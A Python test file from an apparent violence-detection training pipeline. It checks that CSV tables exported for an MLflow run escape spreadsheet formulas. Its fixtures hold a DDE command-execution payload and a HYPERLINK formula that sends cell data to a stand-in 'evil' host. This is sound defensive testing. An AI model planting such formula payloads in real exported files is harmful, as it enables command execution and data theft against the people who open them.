"""The tables of a training's MLflow run."""

from __future__ import annotations

import csv
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import numpy as np
import pyarrow as pa

from violence_ops.stages.learning import training_tables

CAMERA = "=cmd|' /C calc'!A0"
GROUP = '=HYPERLINK("http://evil/?"&A2;"open")'


def read(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


def test_what_labels_csv_says_becomes_no_formula_in_a_table_that_people_open(tmp_path: Path) -> None:
    rows: list[dict[str, Any]] = [
        {"clip_id": str(number) * 20, "label": label, "source_group": GROUP, "batch_id": "b", "camera_id": CAMERA, "width": 64, "height": 36}
        for number, label in enumerate(("Fight", "NonFight"))
    ]  # fmt: skip
    trained: Any = SimpleNamespace(
        val_clips=[row["clip_id"] for row in rows], val_labels=np.array([1, 0]), val_probabilities=np.array([0.2, 0.1]),
        threshold=0.5, sweep=[],
    )  # fmt: skip
    training_tables.write(tmp_path, trained, pa.Table.from_pylist(rows))
    tables = {name: read(tmp_path / "tables" / f"{name}.csv") for name in ("validation", "failures", "slices")}
    assert [len(table) for table in tables.values()] == [2, 1, 5]
    for row in (*tables["validation"], *tables["failures"]):
        assert (row["camera_id"], row["source_group"]) == (f"'{CAMERA}", f"'{GROUP}")
    assert f"'{CAMERA}" in {row["value"] for row in tables["slices"]}
